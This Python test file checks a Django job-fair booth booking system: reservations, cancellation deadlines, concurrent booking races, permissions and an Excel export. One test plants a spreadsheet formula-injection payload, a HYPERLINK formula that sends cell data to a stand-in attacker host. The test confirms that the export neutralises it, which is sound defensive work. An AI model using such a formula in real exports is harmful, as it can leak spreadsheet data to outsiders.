import datetime
import io
import threading

import pytest
import time_machine
from django.db import connection
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from fairs import services
from fairs.models import BoothBooking, JobFair, read_pass_token
from portal.models import Employer
from tests import factories

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点击")'


@pytest.fixture
def fair(foshan):
    return factories.make_fair(foshan["chancheng"])


def booth(fair, number="A01"):
    return fair.booths.get(number=number)


def test_layout_becomes_numbered_booths(fair):
    assert sorted(fair.booths.values_list("number", flat=True)) == [
        "A01", "A02", "A03", "A04", "B01", "B02", "B03", "B04",
    ]  # fmt: skip
    assert booth(fair, "B01").column == 4  # the dot is an aisle


def test_employer_books_a_free_booth_and_gets_a_pass(
    fair, employer, django_capture_on_commit_callbacks
):
    posting = factories.make_posting(employer.employer)
    with django_capture_on_commit_callbacks(execute=True):
        booking = services.book_booth(
            fair, booth(fair), employer=employer.employer, postings=[posting],
            by=employer,
        )  # fmt: skip
    assert booking.is_active and len(booking.short_code) == 8
    assert read_pass_token(booking.pass_token) == ("E", booking.code)
    assert read_pass_token(booking.pass_token[:-1] + "x") is None  # forged
    assert employer.notifications.filter(subject__contains="A01").exists()


def test_a_taken_booth_and_a_second_booth_are_refused(fair, employer, other_employer):
    services.book_booth(
        fair, booth(fair), employer=employer.employer, postings=[], by=employer
    )
    with pytest.raises(services.FairError, match="A01"):
        services.book_booth(
            fair, booth(fair), employer=other_employer.employer, postings=[],
            by=other_employer,
        )  # fmt: skip
    with pytest.raises(services.FairError):
        services.book_booth(
            fair,
            booth(fair, "A02"),
            employer=employer.employer,
            postings=[],
            by=employer,
        )


def test_booking_window_and_verification_are_enforced(foshan, employer):
    closed = factories.make_fair(
        foshan["chancheng"],
        booking_opens=datetime.datetime(2020, 1, 1, tzinfo=datetime.UTC),
        booking_closes=datetime.datetime(2020, 2, 1, tzinfo=datetime.UTC),
    )
    with pytest.raises(services.FairError):
        services.book_booth(
            closed, booth(closed), employer=employer.employer, postings=[], by=employer
        )
    fair = factories.make_fair(foshan["chancheng"])
    unverified = factories.make_employer_user(
        org_unit=foshan["chancheng_street"], verified=False
    )
    with pytest.raises(services.FairError):
        services.book_booth(
            fair, booth(fair), employer=unverified.employer, postings=[], by=unverified
        )


def test_cancelling_frees_the_booth_and_revokes_the_pass(
    fair, employer, other_employer
):
    booking = services.book_booth(
        fair, booth(fair), employer=employer.employer, postings=[], by=employer
    )
    services.cancel_booking(booking, by=employer)
    booking.refresh_from_db()
    assert booking.status == "cancelled" and not booking.is_late_cancel
    services.book_booth(
        fair, booth(fair), employer=other_employer.employer, postings=[],
        by=other_employer,
    )  # fmt: skip
    assert BoothBooking.objects.active().count() == 1


def test_cancelling_after_the_free_deadline_is_marked_late(fair, employer):
    booking = services.book_booth(
        fair, booth(fair), employer=employer.employer, postings=[], by=employer
    )
    with time_machine.travel(fair.cancel_deadline + datetime.timedelta(hours=1)):
        services.cancel_booking(booking, by=employer)
    booking.refresh_from_db()
    assert booking.is_late_cancel


def _storm(fair_pk, booth_pks, users):
    barrier = threading.Barrier(len(users))
    outcomes = []

    def attempt(user, booth_pk):
        try:
            barrier.wait()
            fair = JobFair.objects.get(pk=fair_pk)
            services.book_booth(
                fair,
                fair.booths.get(pk=booth_pk),
                employer=user.employer,
                postings=[],
                by=user,
            )
            outcomes.append("ok")
        except services.FairError:
            outcomes.append("refused")
        finally:
            connection.close()

    threads = [
        threading.Thread(target=attempt, args=(user, booth_pk))
        for user, booth_pk in zip(users, booth_pks, strict=True)
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return sorted(outcomes)


@pytest.mark.django_db(transaction=True, serialized_rollback=True)
def test_a_storm_of_bookers_gets_one_booking_per_booth_and_employer():
    foshan = factories.make_org_tree()
    fair = factories.make_fair(foshan["chancheng"])
    users = [
        factories.make_employer_user(org_unit=foshan["chancheng_street"])
        for _ in range(6)
    ]
    a01 = fair.booths.get(number="A01").pk
    assert _storm(fair.pk, [a01] * 6, users) == ["ok"] + ["refused"] * 5
    # One employer books two booths at the same moment: one booking.
    b_booths = list(fair.booths.filter(zone="B").values_list("pk", flat=True)[:2])
    one = factories.make_employer_user(org_unit=foshan["chancheng_street"])
    assert _storm(fair.pk, b_booths, [one, one]) == ["ok", "refused"]
    assert BoothBooking.objects.active().count() == 2


def test_booking_through_the_pages_takes_two_clicks(client, fair, employer):
    factories.make_posting(employer.employer)
    client.force_login(employer)
    page = client.get(fair.get_absolute_url())
    url = reverse("fairs:booking_new", args=[fair.pk, booth(fair).pk])
    assert url in page.text  # click 1: the free booth on the map
    form = client.get(url)
    assert "checked" in form.text  # postings already ticked
    ticked = form.context["form"].initial["postings"]
    response = client.post(url, {"postings": ticked})  # click 2: confirm
    booking = BoothBooking.objects.get()
    assert response.url == booking.get_absolute_url()
    detail = client.get(response.url)
    assert booking.short_code in detail.text and "<svg" in detail.text
    pdf = client.get(reverse("fairs:booking_pdf", args=[booking.code]))
    assert pdf.content.startswith(b"%PDF")


def test_the_loser_of_a_race_sees_a_clear_message(
    client, fair, employer, other_employer
):
    services.book_booth(
        fair, booth(fair), employer=employer.employer, postings=[], by=employer
    )
    client.force_login(other_employer)
    url = reverse("fairs:booking_new", args=[fair.pk, booth(fair).pk])
    response = client.post(url, {}, follow=True)
    assert response.status_code == 200
    assert "A01" in response.text and "请选择其他展位" in response.text


def test_employers_never_see_each_others_bookings(
    client, fair, employer, other_employer
):
    booking = services.book_booth(
        fair, booth(fair), employer=employer.employer, postings=[], by=employer
    )
    client.force_login(other_employer)
    assert client.get(booking.get_absolute_url()).status_code == 403
    assert (
        client.get(reverse("fairs:booking_pdf", args=[booking.code])).status_code == 403
    )
    cancel = reverse("fairs:booking_cancel", args=[booking.code])
    assert client.post(cancel).status_code == 403
    booking.refresh_from_db()
    assert booking.is_active


def test_fair_list_counts_each_booking_once(client, fair, employer, other_employer):
    for user, number in ((employer, "A01"), (other_employer, "B01")):
        services.book_booth(
            fair, booth(fair, number), employer=user.employer, postings=[], by=user
        )
    listing = client.get(reverse("fairs:fair_list"))
    assert listing.context["upcoming"][0].booked == 2


def test_public_fair_pages(client, fair, employer):
    services.book_booth(
        fair, booth(fair), employer=employer.employer, postings=[], by=employer
    )
    listing = client.get(reverse("fairs:fair_list"))
    assert fair.name in listing.text
    detail = client.get(fair.get_absolute_url())
    assert employer.employer.name[:8] in detail.text
    assert "booking_new" not in detail.text
    draft = factories.make_fair(fair.org_unit, publish=False, name="未发布的招聘会")
    assert client.get(draft.get_absolute_url()).status_code == 404


def test_caseworker_cancels_with_a_reason_and_the_employer_is_told(
    client, fair, employer, caseworker
):
    booking = services.book_booth(
        fair, booth(fair), employer=employer.employer, postings=[], by=employer
    )
    client.force_login(caseworker)
    url = reverse("admin:fairs_boothbooking_changelist")
    selection = {"action": "cancel_selected", "_selected_action": [booking.pk]}
    client.post(url, {**selection, "reason": "展位调整，请改订其他展位"})
    booking.refresh_from_db()
    assert booking.status == "cancelled"
    assert employer.notifications.filter(body__contains="展位调整").exists()


def test_layout_cannot_change_once_booked(fair, employer, administrator):
    services.book_booth(
        fair, booth(fair), employer=employer.employer, postings=[], by=employer
    )
    fair.layout = "AAA"
    with pytest.raises(services.FairError):
        services.save_fair(fair, by=administrator)


def test_leaders_cannot_publish_fairs(client, foshan, leader):
    draft = factories.make_fair(foshan["chancheng"], publish=False)
    client.force_login(leader)
    client.post(
        reverse("admin:fairs_jobfair_changelist"),
        {"action": "publish_selected", "_selected_action": [draft.pk]},
    )
    draft.refresh_from_db()
    assert draft.status == "draft"


def test_the_bookings_export_shows_a_hostile_employer_name_as_text(
    client, fair, employer, caseworker
):
    Employer.objects.filter(pk=employer.employer.pk).update(
        name=HOSTILE, contact_name="@SUM(A1:A9)"
    )
    booking = services.book_booth(
        fair, booth(fair), employer=employer.employer, postings=[], by=employer
    )
    client.force_login(caseworker)
    response = client.post(
        reverse("admin:fairs_boothbooking_changelist"),
        {"action": "export_selected", "_selected_action": [booking.pk]},
    )
    [header, row] = load_workbook(io.BytesIO(response.content)).active.iter_rows()
    assert all(cell.data_type != "f" for cell in header + row)
    cells = {heading.value: cell for heading, cell in zip(header, row, strict=True)}
    assert cells["用人单位"].value == "'" + HOSTILE
    assert cells["联系人"].value == "'@SUM(A1:A9)"
    assert cells["展位号"].value == "A01"
    assert cells["预订时间"].is_date


def test_an_unverified_employer_is_told_why_before_any_booth_is_offered(
    client, english, fair, foshan, employer
):
    unverified = factories.make_employer_user(
        org_unit=foshan["chancheng_street"], verified=False
    )
    book = reverse("fairs:booking_new", args=[fair.pk, booth(fair).pk])
    client.force_login(unverified)
    page = client.get(fair.get_absolute_url()).text
    assert "Your employer is awaiting verification." in page
    assert reverse("workspace") in page
    assert "Click a free booth to book it." not in page and book not in page
    response = client.get(book)  # typed in: back to the fair's page, not a 403
    assert response.status_code == 302 and response.url == fair.get_absolute_url()
    client.force_login(employer)
    page = client.get(fair.get_absolute_url()).text
    assert book in page and "awaiting verification" not in page


def test_on_the_day_of_the_fair_the_cancel_page_gives_the_refusal_not_the_button(
    client, english, fair, employer
):
    booking = services.book_booth(
        fair, booth(fair), employer=employer.employer, postings=[], by=employer
    )
    cancel = reverse("fairs:booking_cancel", args=[booking.code])
    client.force_login(employer)
    with time_machine.travel(
        timezone.make_aware(datetime.datetime.combine(fair.date, datetime.time(7)))
    ):
        detail = client.get(booking.get_absolute_url()).text
        page = client.get(cancel).text
        client.post(cancel)
    assert cancel not in detail and "please call the organiser" in detail
    assert "please call the organiser" in page
    assert "Yes, cancel the booking" not in page and "counts against" not in page
    booking.refresh_from_db()
    assert booking.is_active
    assert "Yes, cancel the booking" in client.get(cancel).text  # the day before


def _race(fair_pk, attempts):
    """Each (user, booth pk, postings) books in its own thread at the same moment;
    returns the bookings made and the refusals' messages."""
    barrier = threading.Barrier(len(attempts))
    booked, refused = [], []

    def attempt(user, booth_pk, postings):
        try:
            barrier.wait()
            fair = JobFair.objects.get(pk=fair_pk)
            booked.append(
                services.book_booth(
                    fair,
                    fair.booths.get(pk=booth_pk),
                    employer=user.employer,
                    postings=postings,
                    by=user,
                )
            )
        except services.FairError as error:
            refused.append(str(error))
        finally:
            connection.close()

    threads = [threading.Thread(target=attempt, args=args) for args in attempts]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return booked, refused


@pytest.mark.django_db(transaction=True, serialized_rollback=True)
def test_three_employers_racing_for_each_of_eight_booths_book_exactly_eight():
    foshan = factories.make_org_tree()
    fair = factories.make_fair(foshan["chancheng"])
    booths = list(fair.booths.order_by("number"))
    users = [
        factories.make_employer_user(org_unit=foshan["chancheng_street"])
        for _ in range(3 * len(booths))
    ]
    postings = {user.pk: [factories.make_posting(user.employer)] for user in users}
    attempts = [
        (user, booths[index % len(booths)].pk, postings[user.pk])
        for index, user in enumerate(users)
    ]
    booked, refused = _race(fair.pk, attempts)
    assert len(booked) == len(booths) and len(refused) == 2 * len(booths)
    assert all("号展位刚被预订，请选择其他展位。" in message for message in refused)
    active = BoothBooking.objects.active().filter(fair=fair)
    assert sorted(active.values_list("booth__number", flat=True)) == sorted(
        booth.number for booth in booths
    )
    assert active.values("employer").distinct().count() == len(booths)
    for booking in active:  # each winner shows the posting it chose
        [posting] = postings[booking.booked_by_id]
        assert list(booking.postings.all()) == [posting]


@pytest.mark.django_db(transaction=True, serialized_rollback=True)
def test_a_double_submit_books_once_and_the_second_click_says_which_booth_is_yours():
    foshan = factories.make_org_tree()
    fair = factories.make_fair(foshan["chancheng"])
    one = factories.make_employer_user(org_unit=foshan["chancheng_street"])
    a01, b01 = (fair.booths.get(number=n).pk for n in ("A01", "B01"))
    booked, refused = _race(fair.pk, [(one, a01, []), (one, a01, [])])
    assert len(booked) == 1 and refused == ["A01 号展位刚被预订，请选择其他展位。"]
    # Two booths at once: the second is refused and names the booth booked.
    other = factories.make_employer_user(org_unit=foshan["chancheng_street"])
    a02 = fair.booths.get(number="A02").pk
    booked, refused = _race(fair.pk, [(other, a02, []), (other, b01, [])])
    [booking] = booked
    assert refused == [f"您已预订本场招聘会的 {booking.booth.number} 号展位。"]
    assert BoothBooking.objects.active().filter(fair=fair).count() == 2
